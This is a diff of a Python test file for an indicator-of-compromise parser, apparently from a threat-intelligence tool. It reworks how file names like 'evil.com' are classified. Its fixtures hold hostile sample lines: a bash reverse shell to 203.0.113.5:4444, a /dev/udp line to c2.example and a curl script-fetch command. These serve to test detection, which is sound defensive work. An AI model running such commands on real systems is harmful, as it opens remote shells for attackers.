@@ -26,6 +26,7 @@ TAKEN = [
     ("url", "http://evil.example/a", ["http://evil.example/a"]),
     ("filename|md5", f"evil.com|{MD5}", [MD5]),
     ("malware-sample", f"evil.com|{MD5[::-1]}", [MD5[::-1]]),
+    ("File-Name", "evil.com", ["evil.com"]),
     ("sha1", SHA1, [SHA1]),
     ("sha256_hash", SHA256, [SHA256]),
 ]
@@ -60,7 +61,6 @@ LEFT_OUT = [
     ("anonymised", "203.0.113.10"),
     ("full-name", "john.com"),
     ("file_path", "C:\\Users\\evil.com"),
-    ("File-Name", "evil.com"),
     ("command_line", "curl command.example/a.sh"),
     ("package name", "com.evil.app"),
     ("configuration-profile", "net.evil.profile"),
@@ -88,8 +88,9 @@ def test_every_kind(form: object, tmp_path: Path) -> None:
     stated = [(kind, value) for kind, value, _ in TAKEN]
     path = tmp_path / "list"
     path.write_text(form([*stated, *LEFT_OUT]))
-    found = [item.value for item in read_list(str(path), print) if isinstance(item, Indicator)]
-    assert sorted(found) == sorted(value for _, _, values in TAKEN for value in values)
+    taken = [item for item in read_list(str(path), print) if isinstance(item, Indicator)]
+    assert sorted(item.value for item in taken) == sorted(value for _, _, values in TAKEN for value in values)
+    assert {item.type for item in taken if item.value == "evil.com"} == {IndicatorType.FILE_NAME}
 
 
 def test_kinds_are_known_however_their_words_are_joined() -> None:
@@ -106,7 +107,7 @@ LISTS = [
     ("sums.txt", f"\\{SHA256}  back\\\\slash.exe\n", [SHA256]),
     ("old.rules", 'alert tcp any any -> any 80 (msg:"x"; content:"Host|3a 20|evil.example|0d 0a|"; sid:1;)\nalert tcp any any -> any 80 (msg:"y"; content:"Host: b.example"; http_header; sid:2;)\nalert tcp any any -> any 80 (msg:"z"; content:!"Host|3a| good.example"; sid:3;)\n', ["evil.example", "b.example"]),
     ("note.txt", "4. Mẫu tệp: C:\\Windows\\a.exe, update.com\n- File name: setup.com\n- Máy chủ: update.example\n", ["update.example"]),
-    ("plain.xml", "<iocs><ioc type='domain'><value>evil.example</value></ioc><ioc type='filename'><value>evil.com</value></ioc></iocs>", ["evil.example"]),
+    ("plain.xml", "<iocs><ioc type='domain'><value>evil.example</value></ioc><ioc type='filename'><value>evil.com</value></ioc></iocs>", ["evil.example", "evil.com"]),
     ("report.json", json.dumps({"domains": ["evil.example"], "files": ["evil.com"], "packages": ["org.evil.app"], "names": ["b.com"], "meaningful_name": "a.com"}), ["evil.example"]),
     ("records.json", json.dumps({"mask": "evil.example", "files": [{"MD5": MD5, "name": "a.com"}]}), ["evil.example", MD5]),
     ("shell.txt", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nexec 3<>/dev/udp/c2.example/53\n", ["203.0.113.5", "c2.example"]),
